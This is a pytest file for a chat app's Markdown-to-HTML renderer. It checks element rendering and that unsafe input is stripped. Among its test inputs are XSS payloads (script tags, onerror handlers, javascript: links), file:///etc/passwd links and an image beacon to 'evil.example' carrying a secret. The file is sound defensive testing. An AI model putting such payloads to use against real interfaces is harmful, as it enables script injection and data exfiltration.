"""The Markdown → safe HTML renderer: every element, and nothing unsafe gets through."""

from __future__ import annotations

import re

import pytest

from desktop_chat.ui.render import display_url, is_openable_url, render_blocks, render_html

ALLOWED_TAGS = {
    "p", "br", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table", "thead", "tbody", "tr",
    "th", "td", "pre", "code", "span", "b", "i", "s", "a", "hr",
}  # fmt: skip


def tags(html: str) -> set[str]:
    return {m.lower() for m in re.findall(r"</?([a-zA-Z0-9]+)", html)}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# Title", "<h1>Title</h1>"),
        ("### Small", "<h3>Small</h3>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
        ("use `x < y`", "<p>use <code>x &lt; y</code></p>"),
        ("*it* **bold** ~~gone~~", "<p><i>it</i> <b>bold</b> <s>gone</s></p>"),
        ("a  \nb", "<p>a<br/>b</p>"),
        ("---", "<hr/>"),
        (
            "[site](https://example.com/a?b=1&c=2)",
            '<p><a href="https://example.com/a?b=1&amp;c=2">site</a></p>',
        ),
        ("<mailto:ann@example.com>", '<a href="mailto:ann@example.com">'),
    ],
)
def test_elements(source: str, expected: str) -> None:
    assert expected in render_html(source)


def test_table_alignment_and_quote() -> None:
    html = render_html("| L | R |\n|:--|--:|\n| 1 | 2 |\n\n> quoted *text*")
    assert '<th align="left">L</th><th align="right">R</th>' in html
    assert '<td align="right">2</td>' in html
    assert 'class="quote"' in html and "<i>text</i>" in html


def test_fenced_code_is_its_own_highlighted_block() -> None:
    blocks = render_blocks("Intro\n\n```python\ndef f():\n    return 1\n```\n")
    assert [b.kind for b in blocks] == ["prose", "code"]
    code = blocks[1]
    assert code.lang == "python" and code.code == "def f():\n    return 1"
    assert "<span style=" in code.html and "def" in code.html


def test_dark_palette_differs() -> None:
    light = render_blocks("```python\nimport os\n```", dark=False)[0].html
    dark = render_blocks("```python\nimport os\n```", dark=True)[0].html
    assert light != dark


def test_unknown_language_is_escaped_plain() -> None:
    block = render_blocks("```nosuchlang\n<b>&</b>\n```")[0]
    assert block.html == "&lt;b&gt;&amp;&lt;/b&gt;"


def test_nested_code_gets_copy_anchor() -> None:
    block = render_blocks("1. run\n\n   ```sh\n   ls -l\n   ```\n")[0]
    assert block.kind == "prose"
    key, code = block.copies[0]
    assert code == "ls -l" and f'href="dc-copy:{key}"' in block.html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<div style='position:fixed'>big</div>\n\ntext",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](/relative/path)",
        "[x](ftp://example.com/f)",
        "![pic](file:///etc/passwd)",
        "![pic](http://evil.example/beacon?k=SECRET)",
        "![pic](data:image/png;base64,iVBORw0KGgo=)",
        '<https://ok.example/"onmouseover="x>',
    ],
)
def test_untrusted_input_is_neutralised(source: str) -> None:
    html = render_html(source)
    assert tags(html) <= ALLOWED_TAGS
    assert "<img" not in html and "<script" not in html and "<div" not in html
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), href
    assert re.search(r"<[a-z]+ [^>]*\bon[a-z]+=", html) is None  # no event-handler attributes


def test_blocked_link_is_text_and_a_web_image_a_confirm_first_link() -> None:
    html = render_html("[click](file:///etc/passwd) ![logo](https://x.example/l.png) [up](../x)")
    assert html.count("<a ") == 1 and "<img" not in html  # the picture is never loaded
    assert 'href="https://x.example/l.png">Image “logo” from x.example — open</a>' in html
    assert "up (../x)" in html
    assert "file:///etc/passwd" in html  # shown, as text


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.com", True),
        ("http://127.0.0.1:8080/x", True),
        ("mailto:a@b.example", True),
        ("HTTPS://EXAMPLE.COM", True),
        ("https:/example.com", False),
        ("https://", False),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("data:text/html,x", False),
        ("/relative", False),
        ("mailto:", False),
        ("https://exa mple.com", False),
        ("ftp://example.com", False),
    ],
)
def test_openable_urls(url: str, ok: bool) -> None:
    assert is_openable_url(url) is ok


def test_display_url_shortens_in_the_middle() -> None:
    long = "data:image/png;base64," + "A" * 1000
    shown = display_url(long)
    assert len(shown) <= 200 and shown.startswith("data:image/png") and "…" in shown
